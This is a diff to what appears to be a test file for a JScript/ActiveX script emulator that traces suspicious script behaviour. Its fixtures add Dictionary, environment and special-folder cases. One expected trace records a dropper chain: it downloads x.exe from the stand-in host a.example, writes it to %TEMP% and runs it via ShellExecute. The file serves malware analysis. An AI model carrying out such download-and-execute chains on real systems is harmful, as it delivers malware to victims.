@@ -26,6 +26,9 @@ static void on_act(void *ctx, const struct script_act *act)
         return;
     hn_buf_addf(&told->text, "%s%s", script_act_id(act->kind), act->conditional ? "?" : "");
     for (size_t i = 0; i < act->field_count; i++) {
+        if (hn_text_ends(hn_text_cstr(act->fields[i].name), HN_TEXT("Image")) ||
+                hn_text_eq(hn_text_cstr(act->fields[i].name), HN_TEXT("Sha256")))
+            continue; /* they follow from the command line and the layer */
         hn_buf_addf(&told->text, " %s=", act->fields[i].name);
         hn_buf_add_text(&told->text, script_text_flat(told->run, act->fields[i].value));
     }
@@ -125,10 +128,17 @@ static const struct {
       "0); "
       "}",
             "http_request Url=http://a.example/x.exe Method=GET\n"
-            "file_write TargetFilename=C:\\Users\\user\\AppData\\Local\\Temp\\x.exe\n"
-            "process CommandLine=C:\\Users\\user\\AppData\\Local\\Temp\\x.exe\n"
-            "layer command Shell.Application.ShellExecute: "
-            "C:\\Users\\user\\AppData\\Local\\Temp\\x.exe\n" },
+            "file_write TargetFilename=%TEMP%\\x.exe Url=http://a.example/x.exe\n"
+            "process CommandLine=%TEMP%\\x.exe\n"
+            "layer command Shell.Application.ShellExecute: %TEMP%\\x.exe\n" },
+    { "var d = new ActiveXObject('Scripting.Dictionary'); d.Add('a', [1]); d('b') = 'x'; "
+      "d.Item('c') = 2; " RUN("d('a')[0] + d.Item('b') + d('c') + d.Count + d.Keys().join('')"),
+            RAN("1x23abc") },
+    { "var e = new ActiveXObject('WScript.Shell').Environment('PROCESS'); e('q') = 'calc'; " RUN(
+              "'%q%'"),
+            RAN("calc") },
+    { RUN("new ActiveXObject('Scripting.FileSystemObject').GetSpecialFolder(2) + '\\\\a.exe'"),
+            RAN("%TEMP%\\a.exe") },
     { "var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\a.ps1', "
       "true); "
       "f.Write('Write-'); f.WriteLine('Host 1'); f.Close();",
